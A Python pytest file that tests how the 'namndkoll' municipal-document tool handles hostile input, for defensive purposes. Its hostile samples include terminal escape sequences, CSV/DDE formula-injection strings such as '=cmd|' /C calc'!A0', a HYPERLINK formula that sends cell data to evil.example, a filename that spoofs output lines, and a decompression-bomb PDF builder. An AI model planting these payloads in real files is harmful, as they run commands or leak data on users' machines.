"""namndkoll tried as an attacker or a careless user would (issue 9): hostile documents, file
names and databases. Every input is made here (raw PDF bytes, reportlab, SQLite files); each
test asserts what a user sees: the exit code, one clear line, no escape sequence in the
output, no formula cell, a foreign database unchanged, the good files of a batch stored."""

from __future__ import annotations

import csv
import ctypes
import hashlib
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
import zlib
from pathlib import Path

import numpy as np
import pytest
from test_ingest_batch import PROTOCOL, make_pdf
from test_search import FakeEmbedder
from typer.testing import CliRunner

from namndkoll.api import ingest
from namndkoll.cli import app
from namndkoll.corpus.db import open_db, transaction
from namndkoll.corpus.store import replace_document
from namndkoll.search import index_corpus
from namndkoll.types import Document, Metadata, Page, with_offsets

runner = CliRunner()
REPO = Path(__file__).resolve().parent.parent
UNSAFE = ("\x1b", "\x07", "\x08", "\x7f", "\x85", "\x9b", "\u202e", "\r")


# ---- hostile inputs ----------------------------------------------------------------------------

def raw_pdf(lines: list[bytes], tounicode: dict[int, int] | None = None, *, stream: bytes | None = None) -> bytes:
    """A one-page PDF written byte by byte: Helvetica lines of text, a /ToUnicode map that
    says what each byte code means (any code point, controls included), or a given
    (already compressed) FlateDecode content ``stream``."""
    def esc(s: bytes) -> bytes:
        return s.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")

    if stream is None:
        content = b"BT /F1 11 Tf 14 TL 60 780 Td " + b"".join(b"(" + esc(x) + b") Tj T* " for x in lines) + b"ET"
        contents = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    else:
        contents = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
             b" /Contents 4 0 R >>"), contents]
    if tounicode:
        cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def "
                b"1 begincodespacerange <00> <FF> endcodespacerange %d beginbfchar " % len(tounicode)
                + b" ".join(b"<%02X> <%04X>" % kv for kv in sorted(tounicode.items()))
                + b" endbfchar endcmap CMapName currentdict /CMap defineresource pop end end")
        objs += [font + b" /ToUnicode 6 0 R >>", b"<< /Length %d >>\nstream\n" % len(cmap) + cmap + b"\nendstream"]
    else:
        objs.append(font + b" >>")
    out, offsets = b"%PDF-1.4\n", []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)


# byte codes 1..7 of the hostile PDFs' text mean ESC, BEL, RLO, NEL (C1), BS, DEL, CSI (C1)
CONTROLS = {c: c for c in range(0x20, 0x7F)} | {1: 0x1B, 2: 0x07, 3: 0x202E, 4: 0x85, 5: 0x08, 6: 0x7F, 7: 0x9B}
HOSTILE_LINES = [
    b"Socialn\xe4mnden", b"Tj\xe4nsteskrivelse", b"2021-01-05",
    b"Budget f\xf6r \x01]8;;http://evil.example/\x01\\Lund\x01]8;;\x01\\ [/oops] [link=file:///etc/passwd]2024[/link]",
    b"",
    b"Ledam\xf6terna fr\xe5n SD reserverar sig \x01[2J\x01]0;pwned\x02 mot beslutet \x03 till f\xf6rm\xe5n f\xf6r eget yrkande.",
    b"Kostnaden f\xf6r arbetsgivaren blir 1 550 tkr \x05\x06\x04\x07 per \xe5r.",
]


def bomb_pdf(decoded_mb: int) -> bytes:
    """A page whose content stream inflates from ~1/1000 of its size to ``decoded_mb`` MB."""
    z = zlib.compressobj(9)
    chunk = b" " * 2**20
    stream = b"".join(z.compress(chunk) for _ in range(decoded_mb))  # never all of it in memory
    stream += z.compress(b"BT /F1 12 Tf 72 720 Td (Kommunfullmaktige) Tj ET") + z.flush()
    return raw_pdf([], stream=stream)


def assert_clean(text: str) -> None:
    found = [repr(c) for c in UNSAFE if c in text]
    assert not found, f"{found} reached the output: {text[:300]!r}"


def one_error_line(output: str) -> str:
    lines = [ln for ln in output.splitlines() if ln.strip()]
    assert len(lines) == 1, output
    return lines[0]


def cli(*args: str, env: dict[str, str] | None = None) -> object:
    return runner.invoke(app, list(args), env=env)


def without_file_permission_override(argv: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` where file permissions hold. Tests and CI run as root, for whom they do
    not: the child drops CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from its bounding set
    before exec (so root, too, is refused a read-only file or a folder without x), since
    the interpreter here lives under /root where another uid cannot run it."""
    preexec = None
    if os.geteuid() == 0:
        def preexec() -> None:
            libc = ctypes.CDLL(None, use_errno=True)
            for cap in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
                if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
                    raise OSError(ctypes.get_errno(), "cannot drop capabilities")
    env = {**os.environ, "PYTHONPATH": str(REPO), "COLUMNS": "200"}
    try:
        return subprocess.run(argv, cwd=cwd, env=env, preexec_fn=preexec, capture_output=True, text=True,
                              timeout=300, check=False)
    except subprocess.SubprocessError as exc:
        if "capabilities" in str(exc) or "Exception occurred in preexec_fn" in str(exc):
            pytest.skip(f"cannot run without file-permission override here: {exc}")
        raise


# ---- 1, 2: document text is data ------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    tmp_path = tmp_path_factory.mktemp("hostile")
    pdf = tmp_path / "hostile.pdf"
    pdf.write_bytes(raw_pdf(HOSTILE_LINES, CONTROLS))
    db = tmp_path / "h.db"
    rep = ingest([pdf], db=db, index=False)
    assert rep.count("ingested") == 1, rep.results
    conn = open_db(db)
    index_corpus(conn, FakeEmbedder())
    conn.close()
    return db, pdf


def test_control_characters_are_made_visible_at_ingest_and_the_hash_is_of_the_file(hostile_db):
    db, pdf = hostile_db
    conn = open_db(db)
    try:
        text = conn.execute("SELECT group_concat(text, '') FROM pages").fetchone()[0]
        sha, warnings = conn.execute("SELECT sha256, warnings FROM documents").fetchone()
    finally:
        conn.close()
    assert_clean(text)
    assert "␛[2J" in text and "␛]0;pwned␇" in text and "\ufffd" in text  # visible, same length
    assert "1 550 tkr" in text
    assert sha == hashlib.sha256(pdf.read_bytes()).hexdigest()
    assert "control characters" in warnings


@pytest.mark.parametrize("args", [
    ["show", "1"], ["documents"], ["documents", "--wide"], ["positions"], ["figures"], ["decisions"],
    ["search", "arbetsgivaren kostnaden", "--mode", "keyword"], ["stats"],
])
def test_read_commands_print_no_escape_sequence(hostile_db, args):
    db, _ = hostile_db
    r = cli(*args, "--db", str(db))
    assert r.exit_code == 0, r.output
    assert_clean(r.output)


def test_markup_in_a_title_is_shown_as_written(hostile_db):
    db, pdf = hostile_db
    (doc,) = json.loads(cli("documents", "--db", str(db), "--json").stdout)
    r = cli("documents", "--db", str(db), env={"COLUMNS": "200"})
    assert r.exit_code == 0, r.output
    if "[/oops]" in (doc["title"] or ""):  # the title the metadata reader picked holds the markup
        assert "[link=file:///etc/passwd]2024[/link]" in r.output
    r = cli("extract", str(pdf))
    assert r.exit_code == 0, r.output
    assert_clean(r.output)
    assert "\x1b]8;" not in r.output  # no live hyperlink


def stored_hostile_corpus(db: Path) -> None:
    """A corpus as an older namndkoll (or another tool) could have written it: control
    characters and rich markup in the stored text and title, formula cells everywhere."""
    pages = with_offsets([
        Page(1, "=HYPERLINK(\"http://evil.example/?\"&A1, \"klicka\") Nämnden beviljar 1 550 tkr.\n"
                "\x1b[2J\x1b]0;pwned\x07 Ledamöterna från SD reserverar sig mot beslutet.\u202e fdp.exe\n"),
        Page(2, "+cmd|' /C calc'!A0 Kostnaden för arbetsgivaren blir 732 tkr per år.\n"
                "@SUM(1+1)*cmd|' /C calc'!A0 Omröstningen utfaller med 40 Ja mot 29 Nej.\n"
                "Socialnämnden föreslås besluta\n- att godkänna förslaget =HYPERLINK(\"http://evil.example\")\n"),
    ])
    md = Metadata(title="=cmd|' /C calc'!A0 [/oops] [link=file:///etc/passwd]klick[/link]\x1b]0;x\x07",
                  municipality="Lund", committee="Socialnämnden", doc_type="tjansteskrivelse", date="2021-01-05")
    doc = Document("/records/=evil\x1b[31m.pdf", "a" * 64, pages, md)
    from namndkoll.corpus import extractions
    from namndkoll.extract import extract_document

    conn = open_db(db)
    try:
        with transaction(conn):
            doc_id = replace_document(conn, doc)
            extractions.save_extraction(conn, doc_id, doc, extract_document(doc))
        index_corpus(conn, FakeEmbedder())
    finally:
        conn.close()


@pytest.mark.parametrize("args", [
    ["documents"], ["documents", "--wide"], ["show", "1"], ["figures"], ["positions"], ["votes"],
    ["search", "kostnaden arbetsgivaren", "--mode", "keyword"], ["search", "kostnaden", "--mode", "keyword",
                                                                 "--wide"],
    ["stats"], ["cite", "--chunk", "1"],
])
def test_terminal_output_strips_what_an_older_corpus_holds(tmp_path, args):
    db = tmp_path / "old.db"
    stored_hostile_corpus(db)
    r = cli(*args, "--db", str(db), env={"COLUMNS": "100"})
    assert r.exit_code == 0, r.output
    assert_clean(r.output)
    if args[0] == "documents":
        assert "[/oops]" in r.output  # markup shown as text, not read


def test_json_escapes_controls_and_round_trips(tmp_path):
    db = tmp_path / "old.db"
    stored_hostile_corpus(db)
    r = cli("show", "1", "--db", str(db), "--json")
    assert r.exit_code == 0
    assert_clean(r.stdout)
    data = json.loads(r.stdout)
    assert "\x1b[2J" in data["pages"][0]["text"] and "\u202e" in data["pages"][0]["text"]


# ---- 3: no formula cell in a spreadsheet ---------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(FORMULA_START)]


@pytest.mark.parametrize("args", [
    ["figures", "--csv"], ["positions", "--csv"], ["votes", "--csv"], ["decisions", "--csv"],
    ["documents", "--csv"], ["search", "kostnaden arbetsgivaren beviljar", "--mode", "keyword", "--csv"],
    ["cite", "--chunk", "1", "--format", "csv"],
])
def test_csv_exports_hold_no_formula_cell(tmp_path, args):
    db = tmp_path / "old.db"
    stored_hostile_corpus(db)
    r = cli(*args, "--db", str(db))
    assert r.exit_code == 0, r.output
    rows = list(csv.reader(io.StringIO(r.stdout)))
    assert len(rows) > 1, r.stdout
    assert formula_cells(r.stdout) == []
    assert any(c.startswith(("'=", "'+", "'@")) for row in rows for c in row)  # the text is still there


def test_cite_csv_written_to_a_file_is_neutralised_too(tmp_path):
    db = tmp_path / "old.db"
    stored_hostile_corpus(db)
    out = tmp_path / "pack.csv"
    r = cli("cite", "--chunk", "1", "--format", "csv", "-o", str(out), "--db", str(db))
    assert r.exit_code == 0, r.output
    assert formula_cells(out.read_text(encoding="utf-8")) == []


def test_numbers_stay_numbers_in_csv(tmp_path):
    db = tmp_path / "old.db"
    stored_hostile_corpus(db)
    rows = list(csv.DictReader(io.StringIO(cli("figures", "--csv", "--db", str(db)).stdout)))
    assert sorted(float(r["value"]) for r in rows if r["kind"] == "amount") == [732000.0, 1550000.0]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from namndkoll.export import write_xlsx

    path = tmp_path / "out.xlsx"
    rows = [{"quote": '=HYPERLINK("http://evil.example","x")', "value": 1550000.0, "n": 3},
            {"quote": "+cmd|' /C calc'!A0", "value": -5, "n": None}, {"quote": "@SUM(1)", "value": 0.5, "n": 1}]
    write_xlsx(path, rows, ["quote", "value", "n"])
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in ws["A"]][1:] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'+cmd|' /C calc'!A0",
                                               "'@SUM(1)"]
    assert [c.value for c in ws["B"]][1:] == [1550000, -5, 0.5]  # numbers stay numbers


# ---- 4: file names and unreadable entries -----------------------------------------------------------------

def test_any_file_name_and_broken_entries_each_get_one_line(tmp_path, db_path):
    folder = tmp_path / "in"
    folder.mkdir()
    make_pdf(folder / "good.pdf", PROTOCOL)
    odd = os.path.join(os.fsencode(folder), b"r\xe4ntor-\xff.pdf")  # Latin-1 bytes, not UTF-8
    with open(odd, "wb") as f:
        f.write(raw_pdf([b"Socialn\xe4mnden", b"Protokoll 2021-01-05", b"Text."], CONTROLS))
    (folder / "spoof\nfailed   all.pdf").write_bytes(b"%PDF-1.4 not really")
    (folder / "gone.pdf").symlink_to(folder / "nowhere.pdf")
    (folder / "loop").symlink_to(folder)  # a folder that contains itself

    r = cli("ingest", str(folder), "--db", str(db_path), "--no-index", "--no-extract", "-q")
    assert r.exit_code == 1, r.output
    assert "Traceback" not in r.output
    lines = r.output.splitlines()
    spoof = [ln for ln in lines if "spoof" in ln]
    assert len(spoof) == 1 and "spoof\\nfailed   all.pdf" in spoof[0] and spoof[0].startswith("failed")
    assert not any(ln.startswith("failed   all.pdf") for ln in lines)  # no second, spoofed line
    gone = [ln for ln in lines if "gone.pdf" in ln]
    assert len(gone) == 1 and "broken link" in gone[0]
    assert "2 ingested" in r.output and "2 failed" in r.output
    docs = json.loads(cli("documents", "--db", str(db_path), "--json").stdout)
    assert {Path(d["source"]).name for d in docs} == {"good.pdf", "r\\xe4ntor-\\xff.pdf"}
    # the odd name is found again: the second run skips it as unchanged
    again = ingest([folder], db=db_path, index=False, extract=False)
    assert again.count("unchanged") == 2 and again.count("ingested") == 0


def test_unreadable_folders_and_files_are_reported_and_the_rest_is_stored(tmp_path):
    work = tmp_path / "w"
    folder = work / "in"
    (folder / "closed").mkdir(parents=True)
    (folder / "listonly").mkdir()
    make_pdf(folder / "good.pdf", PROTOCOL)
    make_pdf(folder / "closed" / "hidden.pdf", ["Nämnd\nText."])
    make_pdf(folder / "listonly" / "inside.pdf", ["Nämnd\nAnnan text."])
    make_pdf(folder / "secret.pdf", ["Nämnd\nHemlig text."])
    os.chmod(folder / "closed", 0o000)  # cannot be listed
    os.chmod(folder / "listonly", 0o444)  # can be listed, not entered
    os.chmod(folder / "secret.pdf", 0o000)
    try:
        r = without_file_permission_override(
            [sys.executable, "-m", "namndkoll.cli", "ingest", "in", "--db", "c.db", "--no-index", "--no-extract",
             "-q"], cwd=work)
    finally:
        for p in ("closed", "listonly", "secret.pdf"):
            os.chmod(folder / p, 0o755)
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "Traceback" not in out
    closed = [ln for ln in out.splitlines() if "closed" in ln]
    assert len(closed) == 1 and "cannot read this folder" in closed[0], out
    assert len([ln for ln in out.splitlines() if "inside.pdf" in ln]) == 1, out
    assert len([ln for ln in out.splitlines() if "secret.pdf" in ln]) == 1, out
    assert "1 ingested" in out
    conn = open_db(work / "c.db")
    try:
        assert [Path(r[0]).name for r in conn.execute("SELECT source FROM documents")] == ["good.pdf"]
    finally:
        conn.close()


# ---- 5: databases that are not ours, or not writable ---------------------------------------------------------

READ_COMMANDS = [["documents"], ["figures"], ["stats"], ["show", "1"], ["index", "--status"],
                 ["search", "budget", "--mode", "keyword"]]


@pytest.mark.parametrize("args", READ_COMMANDS)
def test_a_missing_database_is_one_line_and_nothing_is_created(tmp_path, args):
    db = tmp_path / "typo" / "x.db"
    r = cli(*args, "--db", str(db))
    assert r.exit_code == 1
    assert "no database at" in one_error_line(r.output)
    assert not (tmp_path / "typo").exists()


@pytest.mark.parametrize("args", READ_COMMANDS + [["ingest", "in.pdf", "--no-index"]])
def test_a_file_that_is_no_database_is_refused_and_left_as_it_was(tmp_path, args):
    db = tmp_path / "notes.db"
    db.write_text("Mötesanteckningar, inte en databas\n", encoding="utf-8")
    make_pdf(tmp_path / "in.pdf", PROTOCOL)
    before = db.read_bytes()
    r = runner.invoke(app, [a if a != "in.pdf" else str(tmp_path / "in.pdf") for a in args] + ["--db", str(db)])
    assert r.exit_code == 1
    assert "not a SQLite database" in one_error_line(r.output)
    assert db.read_bytes() == before


@pytest.mark.parametrize("args", READ_COMMANDS + [["ingest", "in.pdf", "--no-index"]])
def test_another_applications_database_is_refused_and_unchanged(tmp_path, args):
    db = tmp_path / "crm.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
    conn.execute("INSERT INTO customers (name) VALUES ('Lunds kommun')")
    conn.commit()
    conn.close()
    make_pdf(tmp_path / "in.pdf", PROTOCOL)
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    r = runner.invoke(app, [a if a != "in.pdf" else str(tmp_path / "in.pdf") for a in args] + ["--db", str(db)])
    assert r.exit_code == 1
    line = one_error_line(r.output)
    assert "another application" in line and "customers" in line and "unchanged" in line
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["crm.db", "in.pdf"]  # no -wal, no -journal


def test_a_newer_namndkoll_corpus_is_refused(tmp_path, db_path):
    open_db(db_path).close()
    conn = sqlite3.connect(db_path)
    conn.execute("INSERT INTO _migrations (number, name) VALUES (9999, 'future')")
    conn.commit()
    conn.close()
    for args in (["documents"], ["stats"]):
        r = cli(*args, "--db", str(db_path))
        assert r.exit_code == 1 and "newer namndkoll" in one_error_line(r.output)


def test_a_read_only_corpus_is_read_and_writers_say_so(tmp_path):
    work = tmp_path / "w"
    work.mkdir()
    db = work / "corpus.db"
    pdf = make_pdf(work / "kf.pdf", PROTOCOL)
    assert ingest([pdf], db=db, index=False, extract=False).count("ingested") == 1
    make_pdf(work / "new.pdf", ["Nämnd\nNy text."])
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    os.chmod(db, 0o444)
    os.chmod(work, 0o555)
    try:
        read = without_file_permission_override(
            [sys.executable, "-m", "namndkoll.cli", "documents", "--db", "corpus.db", "--json"], cwd=work)
        write = without_file_permission_override(
            [sys.executable, "-m", "namndkoll.cli", "ingest", "new.pdf", "--db", "corpus.db", "--no-index"],
            cwd=work)
    finally:
        os.chmod(work, 0o755)
        os.chmod(db, 0o644)
    assert read.returncode == 0, read.stderr
    assert len(json.loads(read.stdout)) == 1
    assert write.returncode == 1, write.stdout + write.stderr
    line = one_error_line(write.stdout + write.stderr)
    assert "cannot write to" in line and "read-only" in line
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before


# ---- 6: index while ingest replaces documents ---------------------------------------------------------------

def _doc(name: str, text: str) -> Document:
    pages = with_offsets([Page(i + 1, t) for i, t in enumerate(text.split("\f"))])
    return Document(f"/r/{name}.pdf", hashlib.sha256(text.encode()).hexdigest(), pages,
                    Metadata(title=name, municipality="Lund", committee="Socialnämnden", date="2021-01-05"))


PARAS = [" ".join(f"Stycke {i} mening {j} om förskoleplatser, budget och arbetsmarknad i Lund." for j in range(12))
         for i in range(24)]


def test_index_keeps_every_vector_when_ingest_replaces_documents_meanwhile(db_path, monkeypatch):
    """The interleaving of `index` and `ingest`, made exact: while a batch is being embedded,
    a document is replaced and re-chunked with other text (SQLite gives its new chunks the
    deleted ids). No KeyError, no vector on the wrong chunk, nothing embedded thrown away."""
    from namndkoll.corpus.index import replace_chunks
    from namndkoll.search.chunking import CHUNKER, chunk_document, chunk_hash
    from namndkoll.search.index import chunk_contexts, embed_text

    monkeypatch.setattr("namndkoll.search.index.CENTER_SAMPLE", 4)
    conn = open_db(db_path)
    first, last = _doc("a", "\f".join(PARAS[:8])), _doc("b", "\f".join(PARAS[8:16]))
    for d in (first, last):
        with transaction(conn):
            replace_document(conn, d)
    other = open_db(db_path)  # the ingest, in its own connection

    class Racing(FakeEmbedder):
        raced = False

        def __init__(self) -> None:
            super().__init__()
            self.seen: list[str] = []

        def embed(self, texts, *, kind="passage"):
            out = super().embed(texts, kind=kind)
            self.seen += list(texts)
            if not self.raced and any("Stycke 13 " in t for t in texts):
                # mid-batch: "b" replaced with changed text and chunked again, as an ingest
                # and its index refresh would do; its new chunks get the deleted chunks' ids
                self.raced = True
                new = _doc("b", "\f".join(PARAS[8:12] + PARAS[16:20]))
                chunks = chunk_document(new)
                ctx = chunk_contexts(new, chunks)
                with transaction(other):
                    doc_id = replace_document(other, new)
                    replace_chunks(other, doc_id, chunks, [chunk_hash(c, x) for c, x in zip(chunks, ctx)],
                                   CHUNKER, ctx)
            return out

    emb = Racing()
    rep = index_corpus(conn, emb, batch_size=4)
    assert emb.raced and rep.chunks > 0
    # every vector belongs to the text its chunk holds now
    rows = conn.execute("SELECT c.id, c.text, c.context, e.embedding FROM chunks c"
                        " JOIN chunk_embeddings e ON e.chunk_id = c.id").fetchall()
    assert len(rows) == conn.execute("SELECT count(*) FROM chunks").fetchone()[0]
    plain = FakeEmbedder()
    for cid, text, ctx, blob in rows:
        want = plain.embed([embed_text(text, ctx)])[0]
        assert np.allclose(np.frombuffer(blob, dtype=np.float32), want, atol=1e-6), cid
    # nothing embedded was thrown away: the unchanged passages of "b" got their vectors back
    assert len(emb.seen) == len(set(emb.seen)), "a passage was embedded twice"
    assert index_corpus(conn, FakeEmbedder()).embedded == 0
    other.close()
    conn.close()


# ---- 7, 8: limits per file, workers that die with their parent -------------------------------------------------

needs_proc = pytest.mark.skipif(not Path("/proc/self/statm").exists(), reason="memory limit needs Linux /proc")


@needs_proc
def test_a_decompression_bomb_is_stopped_by_the_memory_limit_and_the_batch_goes_on(tmp_path, db_path):
    folder = tmp_path / "in"
    folder.mkdir()
    # ~1 MB inflating to 1 GB: far beyond the memory limit even where the worker, forked from a
    # big process (the whole suite), frees inherited memory while it reads; the check of what
    # streams inflate to (256 MB) is raised so that the memory limit is what stops it
    (folder / "bomb.pdf").write_bytes(bomb_pdf(1000))
    make_pdf(folder / "good.pdf", PROTOCOL)
    inflated = {"NAMNDKOLL_MAX_INFLATED_MB": "4096"}
    r = cli("ingest", str(folder), "--db", str(db_path), "--no-index", "--no-extract", "-q",
            "--max-file-memory", "100", env=inflated)
    assert r.exit_code == 1, r.output
    bomb = [ln for ln in r.output.splitlines() if "bomb.pdf" in ln]
    assert len(bomb) == 1 and bomb[0].startswith("failed")
    assert "--max-file-memory" in bomb[0] and "NAMNDKOLL_MAX_FILE_MEMORY_MB" in bomb[0]
    assert "1 ingested" in r.output
    # the same limit from the environment
    r = cli("ingest", str(folder), "--db", str(db_path), "--no-index", "--no-extract", "-q",
            env={**inflated, "NAMNDKOLL_MAX_FILE_MEMORY_MB": "100"})
    assert r.exit_code == 1 and "bomb.pdf" in r.output


def test_a_file_beyond_the_time_limit_is_stopped_and_its_worker_replaced():
    from namndkoll.workers import Limits, Pool

    t0 = time.monotonic()
    with Pool(time.sleep, jobs=1, limits=Limits(seconds=1, memory_mb=0)) as pool:
        out = dict(pool.map([("slow", (120,)), ("next", (0,)), ("after", (0.01,))]))
    assert time.monotonic() - t0 < 60
    assert "took longer than 1 s" in out["slow"] and "--max-file-seconds" in out["slow"]
    assert "NAMNDKOLL_MAX_FILE_SECONDS" in out["slow"]
    assert out["next"] is None and out["after"] is None  # the new worker read the rest


def test_a_slow_pdf_is_reported_with_the_setting_that_raises_the_limit(tmp_path, db_path):
    folder = tmp_path / "in"
    folder.mkdir()
    make_pdf(folder / "a-good.pdf", ["Nämnd\nKort text."])
    long = [("Kommunstyrelsen\n" + "\n".join(f"Rad {r} på sida {i}: budget {r * i} tkr, konto {r}." for r in range(50)))
            for i in range(300)]
    make_pdf(folder / "b-long.pdf", long)
    r = cli("ingest", str(folder), "--db", str(db_path), "--no-index", "--no-extract", "-q",
            "--max-file-seconds", "0.5")
    assert r.exit_code == 1, r.output
    slow = [ln for ln in r.output.splitlines() if "b-long.pdf" in ln]
    assert len(slow) == 1 and "took longer than 0.5 s" in slow[0] and "--max-file-seconds" in slow[0]
    assert "1 ingested" in r.output


def test_bad_limit_settings_are_clear_errors(tmp_path, db_path):
    make_pdf(tmp_path / "a.pdf", ["Nämnd\nText."])
    r = cli("ingest", str(tmp_path / "a.pdf"), "--db", str(db_path), env={"NAMNDKOLL_MAX_FILE_SECONDS": "lots",
                                                                           "COLUMNS": "200"})
    assert r.exit_code == 2 and "NAMNDKOLL_MAX_FILE_SECONDS" in r.output and "max-file-seconds" in r.output


def _children(pid: int) -> set[int]:
    out: set[int] = set()
    for stat_file in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat_file.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if int(fields[1]) == pid:
            out.add(int(stat_file.parent.name))
    return out


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs Linux /proc")
def test_workers_die_with_their_parent(tmp_path):
    folder = tmp_path / "many"
    folder.mkdir()
    base = make_pdf(tmp_path / "base.pdf", [f"Nämnd\nSida {p} om budget." for p in range(300)]).read_bytes()
    for i in range(4):  # the same pages, another file each (bytes after %%EOF)
        (folder / f"doc{i}.pdf").write_bytes(base + b"\n%% copy %d\n" % i)
    proc = subprocess.Popen(
        [sys.executable, "-m", "namndkoll.cli", "ingest", str(folder), "--db", str(tmp_path / "x.db"), "--jobs", "2",
         "--no-index", "--no-extract", "-q"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env={**os.environ, "PYTHONPATH": str(REPO)})
    workers: set[int] = set()
    deadline = time.time() + 120
    while time.time() < deadline and len(workers) < 2 and proc.poll() is None:
        time.sleep(0.1)
        workers = _children(proc.pid)
    assert len(workers) >= 2, "the workers did not start"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.time() + 10
    while time.time() < deadline and any(Path(f"/proc/{w}").exists() and _state(w) != "Z" for w in workers):
        time.sleep(0.1)
    alive = [w for w in workers if Path(f"/proc/{w}").exists() and _state(w) != "Z"]
    assert not alive, f"workers {alive} outlived their parent"


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "Z"


# ---- 9: filters compare exactly, unknown choices are usage errors ------------------------------------------

@pytest.fixture(scope="module")
def listed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("listed") / "old.db"
    stored_hostile_corpus(db)
    return db


@pytest.mark.parametrize("code", ["%", "e", "_", "S%", "[/x]"])
def test_unknown_party_codes_are_usage_errors(listed, code):
    for cmd in (["positions"], ["people"], ["search", "budget", "--mode", "keyword"]):
        r = cli(*cmd, "--party", code, "--db", str(listed))
        assert r.exit_code == 2, (cmd, r.output)
        assert "no party code" in r.output


def test_party_codes_in_any_case_and_older_forms_are_understood(listed):
    assert cli("positions", "--party", "sd", "--db", str(listed), "--json").exit_code == 0
    rows = json.loads(cli("positions", "--party", "sd", "--db", str(listed), "--json").stdout)
    assert rows and all("SD" in r["parties"] for r in rows)
    assert cli("people", "--party", "fp", "--db", str(listed)).exit_code == 0  # Folkpartiet -> L


@pytest.mark.parametrize("pattern", ["%", "_", "%%", "Social%", "S_cialnämnden"])
def test_committee_wildcards_are_letters(listed, pattern):
    docs = json.loads(cli("documents", "--committee", pattern, "--db", str(listed), "--json").stdout)
    assert docs == []
    hits = json.loads(cli("search", "kostnaden", "--mode", "keyword", "--committee", pattern, "--db", str(listed),
                          "--json").stdout)
    assert hits == []
    assert json.loads(cli("figures", "--committee", pattern, "--db", str(listed), "--json").stdout) == []
    assert len(json.loads(cli("documents", "--committee", "nämnd", "--db", str(listed), "--json").stdout)) == 1


def test_a_document_reference_with_wildcards_matches_literally(listed):
    r = cli("show", "%", "--db", str(listed))
    assert r.exit_code == 1 and "no document matches" in one_error_line(r.output)
    r = cli("documents", "--dnr", "%", "--db", str(listed), "--json")
    assert json.loads(r.stdout) == []


@pytest.mark.parametrize("args", [
    ["search", "budget", "--mode", "bogus"], ["compare", "budget", "--by", "colour"],
    ["cite", "budget", "--format", "xml"], ["figures", "--kind", "weight"], ["decisions", "--kind", "maybe"],
    ["positions", "--kind", "opinion"], ["documents", "--type", "novel"],
])
def test_unknown_choices_are_usage_errors(listed, args):
    r = cli(*args, "--db", str(listed))
    assert r.exit_code == 2, r.output
    # one line naming the option, the value and what it accepts (was a box: "Invalid value for …")
    assert f"{args[-2]}: '{args[-1]}' is" in one_error_line(r.output) and "one of" in r.output


@pytest.mark.parametrize("query, said", [("a" * 10_000, "letters"), (" ".join(f"ord{i}" for i in range(60)), "words")])
def test_query_words_are_capped_in_length_and_number(listed, query, said):
    t0 = time.monotonic()
    for cmd in (["search", query, "--mode", "keyword"], ["compare", query], ["cite", query]):
        r = cli(*cmd, "--db", str(listed))
        assert r.exit_code == 2, r.output
        assert said in one_error_line(r.output)
    assert time.monotonic() - t0 < 10


# ---- issue 8, CLI side: what to check, and the § items of a document ------------------------------------------

def test_documents_marks_missing_metadata_and_show_json_lists_items(tmp_path, db_path):
    pdf = make_pdf(tmp_path / "kf.pdf", PROTOCOL)
    bare = tmp_path / "bare.pdf"
    bare.write_bytes(raw_pdf([b"Lite text utan rubrik."]))
    ingest([pdf, bare], db=db_path, index=False, extract=False)
    docs = json.loads(cli("documents", "--db", str(db_path), "--json").stdout)
    missing = {Path(d["source"]).name: d["missing"] for d in docs}
    assert "committee" in missing["bare.pdf"] and "date" in missing["bare.pdf"]
    assert missing["kf.pdf"] == [] or set(missing["kf.pdf"]) <= {"municipality", "doc_type"}
    r = cli("documents", "--db", str(db_path), env={"COLUMNS": "80"})
    assert "?" in r.output and "not found in the document" in r.output
